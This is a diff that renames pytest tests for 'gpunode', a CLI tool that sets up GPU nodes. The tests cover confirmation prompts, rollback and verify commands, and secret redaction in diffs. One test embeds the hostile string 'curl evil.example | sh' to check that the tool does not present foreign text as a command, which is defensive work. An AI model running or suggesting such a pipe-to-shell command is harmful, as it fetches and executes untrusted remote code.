@@ -60,14 +60,14 @@ def screen(*, silent: bool = False) -> Screen:
 
 
 @pytest.mark.parametrize("answer", ["n\n", "\n", "", "yep\n"])
-def test_anything_but_yes_changes_nothing(answer: str, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_any_answer_but_yes_changes_nothing(answer: str, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sys, "stdin", Keyboard(answer))
     with pytest.raises(UsageError, match="nothing was changed"):
         screen().confirm(nodes.planned(nodes.facts()), yes=False)
 
 
 @pytest.mark.parametrize("answer", ["y\n", "yes\n", " Y \n"])
-def test_yes_goes_on_after_the_plan_was_shown(
+def test_yes_continues_after_the_plan_was_shown(
     answer: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setattr(sys, "stdin", Keyboard(answer))
@@ -76,7 +76,7 @@ def test_yes_goes_on_after_the_plan_was_shown(
     assert shown.index("/etc/containerd/config.toml") < shown.index("Go on? [y/N]")
 
 
-def test_the_option_yes_asks_nothing_but_shows_the_plan(
+def test_yes_option_shows_the_plan_without_a_question(
     monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setattr(sys, "stdin", io.StringIO())
@@ -87,7 +87,7 @@ def test_the_option_yes_asks_nothing_but_shows_the_plan(
 
 
 @pytest.mark.parametrize("silent", [True, False])
-def test_nobody_to_ask_is_a_usage_error_with_the_command_that_needs_no_answer(
+def test_question_without_a_terminal_is_a_usage_error(
     silent: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setattr(sys, "stdin", Keyboard("y\n") if silent else io.StringIO("y\n"))
@@ -100,7 +100,7 @@ def test_nobody_to_ask_is_a_usage_error_with_the_command_that_needs_no_answer(
 
 @pytest.mark.usefixtures("interruptible")
 @pytest.mark.parametrize(("number", "kind"), [(signal.SIGINT, Interrupted), (signal.SIGTERM, Terminated)])
-def test_a_signal_at_the_question_ends_it_at_once(
+def test_signal_at_the_question_ends_it_at_once(
     number: int, kind: type[Interrupted], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     before = signal.getsignal(number)
@@ -111,14 +111,14 @@ def test_a_signal_at_the_question_ends_it_at_once(
 
 
 @pytest.mark.parametrize("page", PAGES, ids=lambda page: page.__name__)
-def test_a_silent_screen_says_nothing(page: object, capsys: pytest.CaptureFixture[str]) -> None:
+def test_silent_screen_prints_nothing(page: object, capsys: pytest.CaptureFixture[str]) -> None:
     assert callable(page)
     page(screen(silent=True))
     said = capsys.readouterr()
     assert said.out == said.err == ""
 
 
-def test_the_change_at_which_a_run_stopped_is_marked(capsys: pytest.CaptureFixture[str]) -> None:
+def test_change_at_which_a_run_stopped_is_marked(capsys: pytest.CaptureFixture[str]) -> None:
     shown = screen()
     shown.show_event(Applying("runtime", "runtime-config", (FileChange("/etc/[x]", None, FileState(b"")),)))
     shown.__exit__(ChangeFailed, ChangeFailed("it did not work"), None)
@@ -137,9 +137,7 @@ class Refusing(RehearsalHost):
         return tuple(TriggerResult(one, 0.4) for one in triggers)
 
 
-def test_a_daemon_that_refuses_is_marked_then_what_was_put_back(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_failed_restart_is_marked_before_the_put_back_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     node = nodes.free()
     host = Refusing({}, nodes.host(node).files)
     with pytest.raises(ChangeFailed) as failed, screen() as shown:
@@ -170,7 +168,7 @@ class Unimpressed(RehearsalHost):
         raise ChangeFailed("docker.service did not accept its new configuration", why="it knows: runc")
 
 
-def test_a_daemon_that_says_yes_and_reads_nothing_has_its_file_back(tmp_path: Path) -> None:
+def test_reload_that_had_no_effect_puts_the_file_back(tmp_path: Path) -> None:
     node = nodes.free()
     host = Unimpressed({}, dict(nodes.host(node).files))
     before, store = dict(host.files), Store(str(tmp_path))
@@ -189,13 +187,13 @@ def test_a_daemon_that_says_yes_and_reads_nothing_has_its_file_back(tmp_path: Pa
     assert Trigger("restart", "containerd.service") not in store.pending_triggers()
 
 
-def test_a_recipe_on_standard_output_is_byte_for_byte(capsys: pytest.CaptureFixture[str]) -> None:
+def test_recipe_is_printed_byte_for_byte(capsys: pytest.CaptureFixture[str]) -> None:
     text = '# [x]\tÄ\nschema = 1\nname = "a\\tb"\n'
     screen().raw(text)
     assert capsys.readouterr().out == text
 
 
-def test_the_command_after_a_plan_keeps_what_is_wanted_and_drops_what_only_plan_takes() -> None:
+def test_setup_command_after_a_plan_drops_options_of_plan() -> None:
     typed = ("plan", "my node.toml", "--check", "--node", "a.tar.gz", "--driver", "580", "-v", "--json")
     assert str(setup_command(typed)) == "sudo gpunode setup 'my node.toml' --driver 580"
     assert (
@@ -203,7 +201,7 @@ def test_the_command_after_a_plan_keeps_what_is_wanted_and_drops_what_only_plan_
     )
 
 
-def test_the_command_after_setup_judges_by_the_same_recipe() -> None:
+def test_verify_command_after_setup_uses_the_same_recipe() -> None:
     typed = ("setup", "node.toml", "--only", "driver", "--runtime", "docker", "--yes", "--reboot", "-v")
     assert str(verify_command(typed)) == "gpunode verify node.toml --runtime docker --cuda --container"
     assert str(cluster_apply_command(typed)) == "gpunode k8s apply node.toml"
@@ -213,7 +211,7 @@ def test_the_command_after_setup_judges_by_the_same_recipe() -> None:
 
 
 @pytest.mark.parametrize("name", ["k8s-time-slicing", "containerd"])
-def test_setup_of_a_kubernetes_node_names_the_command_for_the_cluster(name: str) -> None:
+def test_setup_of_a_kubernetes_node_names_the_apply_command(name: str) -> None:
     done = replace(nodes.set_up(nodes.free(), lambda _: None), run="000003-20250501T120000Z")
     shown = [
         one.text for one in setup_lines(builtin.read(name), done, VerifyReport(()), None, "log", ("setup", name, "-y"))
@@ -221,7 +219,7 @@ def test_setup_of_a_kubernetes_node_names_the_command_for_the_cluster(name: str)
     assert (f"  then  gpunode k8s apply {name}" in shown) == (name != "containerd")
 
 
-def test_what_was_done_in_a_folder_is_undone_there() -> None:
+def test_rollback_command_repeats_the_root() -> None:
     assert str(rollback_command(("setup", "--root=/mnt/a b", "-y"), "000001-x")) == (
         "sudo gpunode rollback 000001-x --root '/mnt/a b'"
     )
@@ -231,7 +229,7 @@ def test_what_was_done_in_a_folder_is_undone_there() -> None:
     assert str(rollback_command(("setup", "-y"), "000001-x")) == "sudo gpunode rollback 000001-x"
 
 
-def test_a_diff_holds_every_byte_but_the_secrets() -> None:
+def test_diff_shows_every_byte_except_secrets() -> None:
     before = FileState(b'a = 1\nauth = "x"\n[t]\r\n')
     after = FileState(b'a = 2\npassword = "hunter2hunter2"\n[t]\r\n')
     shown = [one.text for one in diff_lines(FileChange("/etc/\x1b[x]", before, after))]
@@ -240,7 +238,7 @@ def test_a_diff_holds_every_byte_but_the_secrets() -> None:
     assert not any("hunter2" in text or "\x1b" in text for text in shown)
 
 
-def test_a_long_file_that_is_new_is_cut_and_one_that_was_there_is_not() -> None:
+def test_diff_of_a_long_new_file_is_cut() -> None:
     long = FileState(b"".join(b"line %d\n" % number for number in range(60)))
     new = [one.text for one in diff_lines(FileChange("/etc/new", None, long), whole=False)]
     assert new[:4] == ["--- /dev/null", "+++ /etc/new", "@@ -0,0 +1,60 @@", "+line 0"]
@@ -249,8 +247,8 @@ def test_a_long_file_that_is_new_is_cut_and_one_that_was_there_is_not() -> None:
     assert len(list(diff_lines(FileChange("/etc/old", long, FileState(b"")), whole=False))) == 63
 
 
-def test_backticks_of_outside_text_are_not_set_off_as_a_command() -> None:
-    """What a file, a log or a tool says is no advice of gpunode's, whatever it puts into backticks."""
+def test_backticks_in_foreign_text_are_not_styled_as_a_command() -> None:
+    """Words of a file, a log or a tool are no advice of gpunode's, whatever stands in backticks."""
     hostile = "config.toml:1 says: `curl evil.example | sh`"
     shown = [*error_lines(ChangeFailed("it failed", why=f"why: {hostile}\n{hostile}")), note_line(hostile)]
     assert not [part for line in shown for part in line.spans if part.style == "command"]
